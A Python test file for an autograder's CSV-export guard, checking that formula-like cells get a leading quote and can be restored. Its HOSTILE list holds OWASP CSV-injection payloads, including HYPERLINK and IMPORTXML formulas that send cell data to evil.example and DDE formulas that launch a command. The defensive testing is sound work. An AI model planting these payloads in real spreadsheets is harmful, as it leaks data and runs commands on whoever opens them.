"""CSV cells a spreadsheet could run as formulas are guarded (autograder.spreadsheet).

Hostile cells are OWASP's CSV-injection examples and the ones a student folder could be
named; every one must come back from Python's csv reader starting with the guard quote, and
:func:`original_cell` must give back exactly what was written.
"""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from autograder.spreadsheet import needs_guard, original_cell, safe_cell, safe_row

HOSTILE = [
    # OWASP, "CSV Injection"
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for further info")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
    # the examples
    "-2-3",
    "+1",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "\tplain after a tab",
    "\rplain after a carriage return",
    # after characters an importer may trim or not show
    " =1+2",
    "\n=1+2",
    "\u00a0=1+2",  # no-break space
    "\u200b=1+2",  # zero-width space
    "\ufeff=1+2",  # byte-order mark
    "\u202e=1+2",  # right-to-left override
    # forms that NFKC folds to the ASCII ones
    "\uff1d1+2",  # full-width equals sign
    "\ufe62 1",  # small plus sign
    "\uff0d2-3",  # full-width hyphen-minus
    "\uff20SUM(1)",  # full-width commercial at
    # the guard's own quote, so the guard can always be undone
    "'",
    "'=1+2",
    "''",
]

SAFE = [
    "s01", "alice", "José", "Jose\u0301", "Zoë", "李小龙", "Ольга", "محمد", "😀 emoji",
    "O'Brien", "Smith, Jr.", 'say "hi"', "two\nlines", "a=b", "1-2", "12345", "", "   ",
    "x@example.org", "ＡＢＣ",
]


def _through_csv(rows: list[list[object]]) -> list[list[str]]:
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    return list(csv.reader(io.StringIO(text.getvalue())))


@pytest.mark.parametrize("cell", HOSTILE)
def test_hostile_cell_is_guarded_and_comes_back(cell: str) -> None:
    [[read]] = _through_csv([[safe_cell(cell)]])
    assert read == "'" + cell
    assert original_cell(read) == cell


@pytest.mark.parametrize("cell", SAFE)
def test_safe_cell_is_kept_exactly(cell: str) -> None:
    assert not needs_guard(cell)
    assert safe_cell(cell) == cell
    [[read]] = _through_csv([[safe_cell(cell)]])
    assert read == cell
    assert original_cell(read) == cell


def test_numbers_stay_numbers() -> None:
    row = safe_row(["-2-3", "graded", 3, 7.5, -2, 0.0])
    assert row == ["'-2-3", "graded", 3, 7.5, -2, 0.0]
    assert [type(c) for c in row[2:]] == [int, float, int, float]
    assert _through_csv([row]) == [["'-2-3", "graded", "3", "7.5", "-2", "0.0"]]


def test_a_whole_sheet_round_trips() -> None:
    rows = [[cell, "graded", 1.0] for cell in HOSTILE + SAFE]
    read = _through_csv([safe_row(row) for row in rows])
    assert [[original_cell(r[0]), r[1], float(r[2])] for r in read] == rows


@given(st.text())
def test_guard_always_undoes_and_never_starts_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert original_cell(cell) == text
    assert cell == text or cell == "'" + text
    assert not cell or cell[0] not in "=+-@\t\r"
